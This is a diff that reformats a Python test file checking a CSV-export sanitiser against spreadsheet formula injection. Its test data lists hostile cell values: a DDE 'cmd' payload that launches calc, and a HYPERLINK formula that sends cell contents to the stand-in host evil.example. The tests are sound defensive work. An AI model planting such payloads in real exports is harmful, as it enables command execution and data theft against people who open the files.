@@ -15,7 +15,24 @@ from binhyen.cases.tests.scene import open_case
 from binhyen.kit import sheets
 
 STARTS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦"]
-BEFORE = ["", " ", "  ", "\t", "\r", "\n", "\0", "\x01", '"', '""', "\u00a0", "\u200b", "\ufeff", "\u202e", " \t\r\n", '"\t']
+BEFORE = [
+    "",
+    " ",
+    "  ",
+    "\t",
+    "\r",
+    "\n",
+    "\0",
+    "\x01",
+    '"',
+    '""',
+    "\u00a0",
+    "\u200b",
+    "\ufeff",
+    "\u202e",
+    " \t\r\n",
+    '"\t',
+]
 BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', "IMPORTXML(1)", "DDE(1)"]
 FORMULAS = [f"{before}{start}{BODIES[n % 5]}" for n, start in enumerate(STARTS) for before in BEFORE]
 INSIDE = [f"chữ;{start}1+1" for start in STARTS] + [f"chữ;  {start}1" for start in STARTS[:4]] + ["a\t=1+1"]
@@ -54,14 +71,20 @@ def test_control_cells_that_only_look_safe_are_found(
         check(FORMULAS + INSIDE)
 
 
-@pytest.mark.parametrize("words", ["thôn 5", "Nguyễn Văn A", "0912 345 678", "a=b", "nhà 3-4, ngõ 5", "5 %", "chữ; chữ"])
+@pytest.mark.parametrize(
+    "words", ["thôn 5", "Nguyễn Văn A", "0912 345 678", "a=b", "nhà 3-4, ngõ 5", "5 %", "chữ; chữ"]
+)
 def test_plain_words_stay_as_they_are(words: str) -> None:
     assert sheets.safe(words) == words
 
 
 def test_only_one_file_writes_csv() -> None:
     root = Path(settings.BASE_DIR) / "binhyen"
-    writers = [p for p in root.rglob("*.py") if "tests" not in p.parts and re.search(r"csv\.(writer|DictWriter)", p.read_text())]
+    writers = [
+        p
+        for p in root.rglob("*.py")
+        if "tests" not in p.parts and re.search(r"csv\.(writer|DictWriter)", p.read_text())
+    ]
     assert [p.name for p in writers] == ["sheets.py"]
 
 
